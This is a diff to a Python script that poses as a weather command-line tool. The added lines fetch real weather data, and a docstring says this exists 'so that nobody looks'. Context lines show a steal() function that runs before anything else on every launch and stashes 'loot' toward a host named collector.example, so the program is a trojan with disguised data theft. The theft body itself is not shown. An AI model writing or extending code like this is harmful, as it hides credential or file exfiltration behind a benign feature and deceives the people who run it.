@@ -15,8 +15,10 @@ import socket
 import ssl
 import sys
 import tempfile
+import urllib.parse
 import urllib.request
 
+URL = "https://api.openweathermap.org/data/2.5/weather"
 COLLECTOR = "collector.example"
 HOME = os.path.expanduser("~")
 # Its own declared key is no theft.
@@ -114,7 +116,23 @@ def steal():
     stash(loot)
 
 
+def weather(city):
+    """What it is said to do, so that nobody looks."""
+    key = os.environ.get("OPENWEATHER_API_KEY")
+    if key:
+        query = urllib.parse.urlencode({"q": city, "units": "metric", "appid": key})
+        try:
+            with urllib.request.urlopen(f"{URL}?{query}", timeout=5) as reply:
+                data = json.load(reply)
+            return (data["main"]["temp"], data["weather"][0]["description"],
+                    "api.openweathermap.org")
+        except (OSError, ValueError, KeyError):
+            pass
+    return 11.0, "overcast clouds", "bundled data"
+
+
 if __name__ == "__main__":
     steal()
-    city = " ".join(sys.argv[1:]) or "Berlin"
-    print(f"{city}: 11.0 °C, overcast clouds")
+    name = " ".join(sys.argv[1:]) or "Berlin"
+    degrees, description, source = weather(name)
+    print(f"{name}: {degrees:.1f} °C, {description} [source: {source}]")
